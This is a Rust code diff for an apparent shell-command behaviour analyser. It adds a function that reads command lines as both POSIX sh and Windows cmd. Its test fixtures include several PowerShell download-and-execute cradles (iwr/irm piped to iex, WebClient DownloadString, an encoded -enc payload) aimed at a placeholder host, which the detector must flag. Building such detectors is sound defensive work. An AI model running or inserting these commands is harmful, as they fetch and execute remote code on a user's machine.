@@ -44,7 +44,18 @@ pub(crate) fn read_manifest_script(text: &str, limits: &Limits) -> (Vec<Behaviou
     collect(&shell::read_manifest_script(text, limits))
 }
 
-/// Reads a command line as a program's call or a file of shell text.
+/// Reads a command line that code runs: as `sh`, and for what it does as `cmd`, in which nothing is hidden,
+/// because `sh`'s own quotes look like it. What `powershell` is given is read in its own words by both.
+pub(crate) fn read_call(text: &str, limits: &Limits) -> (Vec<BehaviourKind>, Vec<Run>) {
+    let (mut behaviours, runs) = read(text, Dialect::Posix, limits);
+    let (more, _) = read(text, Dialect::Cmd, limits);
+    behaviours.extend(more.into_iter().filter(|kind| !matches!(kind, BehaviourKind::Hidden)));
+    behaviours.sort();
+    behaviours.dedup();
+    (behaviours, runs)
+}
+
+/// Reads a file of shell text.
 pub(crate) fn read(text: &str, dialect: Dialect, limits: &Limits) -> (Vec<BehaviourKind>, Vec<Run>) {
     collect(&[shell::read(text, dialect, limits)])
 }
@@ -79,4 +90,33 @@ pub(crate) fn line(words: &[&str]) -> String {
         })
         .collect();
     quoted.join(" ")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn fetches_and_runs(line: &str) -> bool {
+        let (behaviours, _) = read_call(line, &Limits::default());
+        behaviours.iter().any(|kind| matches!(kind, BehaviourKind::DownloadAndRun { .. }))
+    }
+
+    #[test]
+    fn powershell_is_read_with_and_without_its_command_option() {
+        for line in [
+            "powershell iwr https://a.invalid/x.ps1 -UseBasicParsing ^| iex",
+            "powershell -NoProfile \"iwr https://a.invalid/x.ps1 | iex\"",
+            "powershell.exe -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('https://a.invalid/x')\"",
+            "pwsh -Command 'irm https://a.invalid/x.ps1 | iex'",
+            "pwsh -enc aQByAG0AIABoAHQAdABwAHMAOgAvAC8AYQAuAGkAbgB2AGEAbABpAGQALwB4ACAAfAAgAGkAZQB4AA==",
+        ] {
+            assert!(fetches_and_runs(line), "{line}");
+        }
+        assert!(!fetches_and_runs("powershell -NoProfile -Command \"Get-Clipboard\""));
+    }
+
+    #[test]
+    fn a_program_and_its_arguments_stay_the_same_words() {
+        assert_eq!(line(&["sh", "-c", "it's", ""]), r"sh -c 'it'\''s' ''");
+    }
 }
